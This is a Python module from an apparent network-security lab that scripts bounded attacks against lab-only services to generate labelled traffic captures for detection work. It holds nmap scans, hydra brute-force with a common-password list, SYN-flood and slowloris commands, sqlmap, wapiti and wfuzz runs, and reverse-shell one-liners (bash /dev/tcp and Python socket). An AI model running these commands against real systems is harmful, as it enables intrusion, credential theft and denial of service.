"""Threat scenarios: real attack tools from the attacker namespace against lab services only.

Every tool is bounded twice: by its own limits (port lists, packet counts,
wordlist sizes, test length) and by a process timeout. Targets are always
lab addresses (checked by :meth:`Context.target`). While the attack runs, the
client namespace keeps browsing, so captures mix attack and benign flows
that are told apart by host.
"""

from __future__ import annotations

import random
import sys
import threading

from multa_broker.lab.benign import HTTP, curl_session
from multa_broker.lab.labels import Labels, ports
from multa_broker.lab.network import LAN
from multa_broker.lab.scenario import Context, UNAVAILABLE, find_tool, scenario
from multa_broker.lab.services import WebSite, nginx, sshd, vsftpd, web_content

SCAN = Labels(None, None, "none", "scan")
FLOOD = Labels(None, None, "none", "dos")
SLOW = Labels("http", "cleartext", "none", "dos")
BF_SSH = Labels("ssh", "encrypted", "none", "bruteforce")
BF_FTP = Labels("ftp", "cleartext", "none", "bruteforce")
BF_HTTP = Labels("http", "cleartext", "none", "bruteforce")
EXPLOIT = Labels("http", "cleartext", "none", "exploit")
#: A reverse shell worked by a handler: command and control (ATT&CK TA0011, T1059 over T1095); no
#: application protocol of the taxonomy, so service stays unlabelled.
C2_SHELL = Labels(None, "cleartext", "none", "c2")

USERS = ["admin", "root", "test", "user", "guest", "oracle", "ubuntu", "pi", "support", "ftp"]
PASSWORDS = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
             "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
             "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
             "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "admin"]

UNAVAILABLE["c2-beacon"] = (
    "threat",
    "not generated: a scripted beacon loop (curl on a timer) would be a made-up pattern labelled as c2; "
    "real command-and-control traffic comes from c2-pwncat (a real handler, pwncat-cs)")


class Browsing:
    """Benign HTTP from the client while an attack runs (bounded in requests and time)."""

    def __init__(self, ctx: Context, site: WebSite, max_requests: int = 40):
        self.ctx, self.site, self.max = ctx, site, max_requests
        self.stop_event = threading.Event()
        # Its own RNG, so the attack's seeded choices do not depend on thread timing.
        self.rng = random.Random(ctx.rng.random())
        self.thread = threading.Thread(target=self._loop, name="lab-browsing", daemon=True)

    def __enter__(self) -> "Browsing":
        self.ctx.rule(HTTP, server=self.ctx.srv.ip, ports=ports(80), client=self.ctx.cli.ip, protos=("tcp",),
                      what="client browsing")
        self.thread.start()
        return self

    def _loop(self) -> None:
        for _ in range(self.max):
            if self.stop_event.wait(self.rng.uniform(0.3, 2.5)):
                return
            paths = self.rng.sample(self.site.paths, k=min(3, len(self.site.paths)))
            self.ctx.client("cli", curl_session(self.ctx, f"http://{self.ctx.srv.ip}", paths), timeout=30)

    def __exit__(self, *exc: object) -> None:
        self.stop_event.set()
        self.thread.join(timeout=40)


def _targets(ctx: Context, with_ssh: bool = True) -> WebSite:
    """Services for scans to find: nginx (80, 443 when openssl exists) and sshd when installed."""
    site = web_content(ctx, n=ctx.count(4, 8, minimum=2), hi=200_000)
    nginx(ctx, site, ctx.srv.ip, https=find_tool("openssl") is not None)
    if with_ssh and find_tool("/usr/sbin/sshd") and find_tool("ssh-keygen"):
        sshd(ctx, ctx.srv.ip)
    return site


def _nmap(ctx: Context, args: list[str], target: str, timeout: float) -> None:
    ctx.rule(SCAN, client=ctx.atk.ip, what="nmap")
    site = _targets(ctx)
    with Browsing(ctx, site):
        ctx.pause(0.5, 2.0)
        timing = ctx.choice(["-T3", "-T4", "-T4", "-T5"])
        ctx.client("atk", ["nmap", "-n", timing, "--max-retries", "1", "--host-timeout", f"{int(timeout)}s",
                           *args, ctx.target(target)], timeout=timeout + 30)
        ctx.pause(0.5, 2.0)


def _port_spec(ctx: Context, lo: int, hi: int) -> list[str]:
    if ctx.rng.random() < 0.5:
        return ["--top-ports", str(ctx.count(lo, hi, minimum=20))]
    return ["-p", f"1-{ctx.count(lo, hi, minimum=20)}"]


@scenario("scan-syn", "threat", "nmap -sS SYN scan of the server", needs=("nmap", "nginx"))
def scan_syn(ctx: Context) -> None:
    _nmap(ctx, ["-sS", "-Pn", *_port_spec(ctx, 300, 1500)], ctx.srv.ip, timeout=120)


@scenario("scan-connect", "threat", "nmap -sT connect scan of the server", needs=("nmap", "nginx"))
def scan_connect(ctx: Context) -> None:
    _nmap(ctx, ["-sT", "-Pn", *_port_spec(ctx, 200, 1000)], ctx.srv.ip, timeout=120)


@scenario("scan-udp", "threat", "nmap -sU UDP scan of common UDP ports", needs=("nmap", "nginx"))
def scan_udp(ctx: Context) -> None:
    common = [53, 67, 68, 69, 111, 123, 137, 138, 161, 162, 500, 514, 520, 623, 1194, 1434, 1900,
              4500, 5060, 5353, 11211, 51820]
    extra = [ctx.rng.randint(1024, 65535) for _ in range(ctx.count(5, 20))]
    pick = sorted(set(ctx.rng.sample(common, k=ctx.count(8, len(common), minimum=4)) + extra))
    _nmap(ctx, ["-sU", "-Pn", "-p", ",".join(map(str, pick))], ctx.srv.ip, timeout=120)


@scenario("scan-version", "threat", "nmap -sV service/version detection against running services",
          needs=("nmap", "nginx"))
def scan_version(ctx: Context) -> None:
    pick = [22, 80, 443] + ctx.rng.sample([21, 25, 53, 110, 143, 1883, 3306, 5432, 6379, 8080], k=ctx.count(2, 6))
    _nmap(ctx, ["-sV", "-Pn", "--version-intensity", str(ctx.rng.randint(2, 7)), "-p", ",".join(map(str, pick))],
          ctx.srv.ip, timeout=150)


@scenario("scan-ping", "threat", "nmap -sn ping sweep of the lab /24 with IP-level probes",
          needs=("nmap", "nginx"))
def scan_ping(ctx: Context) -> None:
    probes = ctx.rng.sample(["-PE", "-PP", "-PM", "-PS22,80,443", "-PA80", "-PU53"], k=ctx.rng.randint(1, 4))
    # --send-ip: on a LAN nmap would otherwise use ARP only, and no IP flow would exist.
    _nmap(ctx, ["-sn", "--send-ip", *probes], str(LAN), timeout=90)


def _wordlists(ctx: Context, users: list[str], extra_pw: list[str] = ()) -> tuple[str, str]:
    u = ctx.rng.sample(users, k=min(len(users), ctx.count(3, 6, minimum=1)))
    p = ctx.rng.sample(PASSWORDS, k=min(len(PASSWORDS), ctx.count(20, 32, minimum=3))) + list(extra_pw)
    ctx.rng.shuffle(p)
    return str(ctx.write("hydra/users.txt", "\n".join(u) + "\n")), str(ctx.write("hydra/pass.txt", "\n".join(p) + "\n"))


def _hydra(ctx: Context, users: str, pwds: str, target: list[str], timeout: float) -> None:
    tasks = str(ctx.rng.randint(2, 4))
    extra = ["-e", ctx.choice(["ns", "nsr", "s"])] if ctx.rng.random() < 0.5 else []
    ctx.client("atk", ["hydra", "-I", "-q", "-t", tasks, "-w", "10", "-o", str(ctx.path("hydra/found.txt")),
                       *extra, "-L", users, "-P", pwds, *target], timeout=timeout)


@scenario("bf-ssh", "threat", "hydra password guessing against OpenSSH (small wordlists)",
          needs=("hydra", "/usr/sbin/sshd", "ssh-keygen"))
def bf_ssh(ctx: Context) -> None:
    ctx.rule(BF_SSH, server=ctx.srv.ip, ports=ports(22), client=ctx.atk.ip, protos=("tcp",), what="hydra ssh")
    sshd(ctx, ctx.srv.ip, password_auth=True)
    users, pwds = _wordlists(ctx, USERS)
    _hydra(ctx, users, pwds, [f"ssh://{ctx.target(ctx.srv.ip)}"], timeout=120 * max(ctx.scale, 0.3))


@scenario("bf-ftp", "threat", "hydra password guessing against vsftpd (small wordlists)", needs=("hydra", "vsftpd"))
def bf_ftp(ctx: Context) -> None:
    from multa_broker.lab.services import FTP_PASV
    ctx.rule(BF_FTP, server=ctx.srv.ip, ports=ports(21, 20, FTP_PASV), client=ctx.atk.ip, protos=("tcp",),
             what="hydra ftp")
    vsftpd(ctx, ctx.srv.ip, files=1)
    users, pwds = _wordlists(ctx, USERS)
    _hydra(ctx, users, pwds, [f"ftp://{ctx.target(ctx.srv.ip)}"], timeout=120 * max(ctx.scale, 0.3))


@scenario("bf-http", "threat", "hydra http-get against nginx basic auth (the right password is in the list)",
          needs=("hydra", "nginx"))
def bf_http(ctx: Context) -> None:
    ctx.rule(BF_HTTP, server=ctx.srv.ip, ports=ports(80), client=ctx.atk.ip, protos=("tcp",), what="hydra http-get")
    site = web_content(ctx, n=3, hi=100_000)
    nginx(ctx, site, ctx.srv.ip)
    users, pwds = _wordlists(ctx, [site.user, *USERS], extra_pw=[site.password])
    with Browsing(ctx, site):
        _hydra(ctx, users, pwds, [ctx.target(ctx.srv.ip), "http-get", site.private], timeout=120 * max(ctx.scale, 0.3))


@scenario("dos-synflood", "threat", "hping3 SYN flood against nginx, bounded by packet count (-c)",
          needs=("hping3", "nginx"))
def dos_synflood(ctx: Context) -> None:
    ctx.rule(FLOOD, client=ctx.atk.ip, what="hping3")
    site = web_content(ctx, n=3, hi=100_000)
    nginx(ctx, site, ctx.srv.ip)
    count = ctx.count(300, 1500, minimum=30)
    gap_us = ctx.rng.randint(200, 3000)
    port = ctx.choice(["80", "80", "443", "22"])
    with Browsing(ctx, site):
        ctx.pause(0.5, 1.5)
        ctx.client("atk", ["hping3", "-S", "-p", port, "-c", str(count), "-i", f"u{gap_us}",
                           "-w", str(ctx.rng.choice([1024, 8192, 29200, 64240])), ctx.target(ctx.srv.ip)],
                   timeout=count * gap_us / 1e6 + 20)
        ctx.pause(0.5, 1.5)


@scenario("dos-slowloris", "threat", "slowhttptest slowloris (-H) against nginx, bounded test length (-l)",
          needs=("slowhttptest", "nginx"))
def dos_slowloris(ctx: Context) -> None:
    ctx.rule(SLOW, server=ctx.srv.ip, ports=ports(80), client=ctx.atk.ip, protos=("tcp",), what="slowhttptest")
    site = web_content(ctx, n=3, hi=100_000)
    nginx(ctx, site, ctx.srv.ip)
    length = ctx.count(15, 30, minimum=6)
    with Browsing(ctx, site):
        ctx.client("atk", ["slowhttptest", "-H", "-c", str(ctx.count(80, 300, minimum=20)),
                           "-i", str(ctx.rng.randint(3, 10)), "-r", str(ctx.rng.randint(20, 100)),
                           "-l", str(length), "-x", str(ctx.rng.randint(8, 40)), "-p", "3",
                           "-u", f"http://{ctx.target(ctx.srv.ip)}/"], timeout=length + 30)


@scenario("exploit-sqli", "threat", "sqlmap against a small SQL-injectable page (SQLite), --batch, bounded",
          needs=("sqlmap",))
def exploit_sqli(ctx: Context) -> None:
    limit = _attack_shop(ctx, "sqlmap", keepalive=False)  # sqlmap's seeds keep their draws
    technique = ctx.choice(["BEU", "BU", "BEUS", "U", "BEUST", "B"])
    action: list[str] = []
    for extra in ctx.rng.sample([["--banner"], ["--current-user"], ["--tables"], ["--count"], ["--schema"],
                                 ["--dump", "-T", "users"], ["--dump", "-T", "items"]], k=ctx.rng.randint(1, 4)):
        action += extra
    argv = ["sqlmap", "-u", f"http://{ctx.target(ctx.srv.ip)}:8080/item?id=1", "--batch", "--flush-session",
            "--output-dir", str(ctx.path("sqlmap")), "--timeout", "5", "--retries", "0", "--time-sec", "1",
            "--threads", str(ctx.rng.randint(1, 3)), "--level", str(ctx.rng.randint(1, 3)),
            "--risk", str(ctx.rng.randint(1, 2)),
            "--technique", technique, "--disable-coloring", *action]
    if ctx.rng.random() < 0.5:
        argv += ["--dbms", "SQLite"]  # else sqlmap fingerprints the back end itself
    ctx.client("atk", argv, timeout=limit)


#: wapiti's attack modules the lab runs: all of them act on the page alone. Left out: ssrf (it asks
#: an outside endpoint), nikto and wapp (their databases), and the slow brute-force ones.
WAPITI_MODULES = ["sql", "blindsql", "xss", "permanentxss", "file", "exec", "crlf", "redirect", "htaccess",
                  "methods", "shellshock", "backup", "xxe"]


@scenario("exploit-wapiti", "threat",
          "wapiti web vulnerability scanner crawling and attacking the lab's vulnerable shop (SQL, XSS, "
          "file, command and header injection), bounded", needs=("wapiti",))
def exploit_wapiti(ctx: Context) -> None:
    limit = _attack_shop(ctx, "wapiti", keepalive=True)
    modules = ctx.rng.sample(WAPITI_MODULES, k=ctx.rng.randint(3, len(WAPITI_MODULES)))
    for must in ("sql", "xss"):
        if must not in modules:
            modules.append(must)
    argv = ["wapiti", "-u", f"http://{ctx.target(ctx.srv.ip)}:8080/", "--scope", "folder",
            "-m", ",".join(modules), "-l", str(ctx.rng.randint(1, 2)), "-d", str(ctx.rng.randint(1, 3)),
            "--max-scan-time", str(int(limit * 0.8)), "--max-attack-time", str(int(limit / 4)),
            "-t", "5", "--flush-session", "--no-bugreport", "-f", "json", "-o", str(ctx.path("wapiti.json")),
            "--store-session", str(ctx.path("wapiti-session")), "--store-config", str(ctx.path("wapiti-config")),
            "-v", "0"]
    ctx.client("atk", argv, timeout=limit)


#: wfuzz's own injection payload lists (Debian's wfuzz package), each with the shop's page it fits.
WFUZZ_TARGETS = [("SQL.txt", "/item?id=FUZZ"), ("XSS.txt", "/search?q=FUZZ"),
                 ("Traversal.txt", "/view?file=FUZZ"), ("All_attack.txt", "/item?id=FUZZ"),
                 ("All_attack.txt", "/search?q=FUZZ")]
WFUZZ_LISTS = "/usr/share/wfuzz/wordlist/Injections"


@scenario("exploit-wfuzz", "threat",
          "wfuzz sending its SQL, XSS, traversal and mixed injection payload lists at the vulnerable shop's "
          "parameters and login form, bounded by the lists", needs=("wfuzz",))
def exploit_wfuzz(ctx: Context) -> None:
    limit = _attack_shop(ctx, "wfuzz", keepalive=True)
    base = f"http://{ctx.target(ctx.srv.ip)}:8080"
    rounds = ctx.rng.sample(WFUZZ_TARGETS, k=ctx.rng.randint(1, 3))
    for words, path in rounds:
        argv = ["wfuzz", "-z", f"file,{WFUZZ_LISTS}/{words}", "-t", str(ctx.rng.choice([1, 4, 10])),
                "--hc", "404", "-Z"]
        if ctx.rng.random() < 0.3:  # the login form instead of a query parameter
            argv += ["-d", "login=FUZZ&password=x", f"{base}/login"]
        else:
            argv.append(base + path)
        ctx.client("atk", argv, timeout=limit / len(rounds), ok=True)


#: pwncat-cs and its pinned dependencies live in a virtual environment of their own (lab-setup.sh).
PWNCAT_PYTHON = "/opt/multa-lab/pwncat/bin/python"
#: Ways a compromised host calls back with a shell, as the victim would run them.
REVERSE_SHELLS = {
    "bash": "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "python": ("python3 -c 'import os,pty,socket;s=socket.create_connection((\"{ip}\",{port}));"
               "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"),
    "sh": "sh -i >& /dev/tcp/{ip}/{port} 0>&1",
}


@scenario("c2-pwncat", "threat",
          "pwncat-cs (PyPI) handler on the attacker working reverse shells from the server (bash, sh or Python "
          "call-back, as nobody): commands, read-only enumeration and downloads with pauses between them",
          needs=(PWNCAT_PYTHON, "setpriv"))
def c2_pwncat(ctx: Context) -> None:
    from importlib.resources import files

    ctx.rule(C2_SHELL, server=ctx.atk.ip, ports=ports(range(4400, 4500)), client=ctx.srv.ip, protos=("tcp",),
             what="reverse shell to pwncat")
    operator = str(files("multa_broker.lab") / "c2pwncat.py")
    for i in range(ctx.count(3, 8, minimum=1)):
        port = ctx.rng.randint(4400, 4499)
        limit = ctx.seconds(40, 120)
        ctx.daemon("atk", [PWNCAT_PYTHON, operator, "--bind", ctx.target(ctx.atk.ip), "--port", str(port),
                           "--tasks", str(ctx.count(3, 12, minimum=2)), "--seed", str(ctx.rng.randint(1, 10 ** 6)),
                           "--pause", "0.3", str(ctx.rng.choice([2, 5, 10])), "--max-seconds", str(int(limit))],
                   f"pwncat-{i}", listen=[("tcp", ctx.atk.ip, port)], wait=30)
        callback = REVERSE_SHELLS[ctx.choice(sorted(REVERSE_SHELLS))]
        ctx.client("srv", ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--",
                           "bash", "-c", callback.format(ip=ctx.target(ctx.atk.ip), port=port)], timeout=limit + 10)


def _attack_shop(ctx: Context, what: str, keepalive: bool) -> float:
    """Label the attacker's requests to the vulnerable shop as exploit and start the shop; returns
    the scenario's time limit. With ``keepalive`` the shop's requests per connection are drawn."""
    ctx.rule(EXPLOIT, server=ctx.srv.ip, ports=ports(8080), client=ctx.atk.ip, protos=("tcp",), what=what)
    limit = 240 * max(ctx.scale, 0.3)
    # Requests per connection, as servers differ: one (HTTP/1.0 style), Apache's 100, or no limit.
    per_connection = ctx.choice([1, 5, 100, 0]) if keepalive else 0
    ctx.daemon("srv", [sys.executable, "-m", "multa_broker.lab.vulnapp", "--bind", ctx.srv.ip, "--port", "8080",
                       "--max-seconds", str(int(limit + 60)), "--keepalive-requests", str(per_connection)],
               "vulnapp", listen=[("tcp", ctx.srv.ip, 8080)])
    return limit
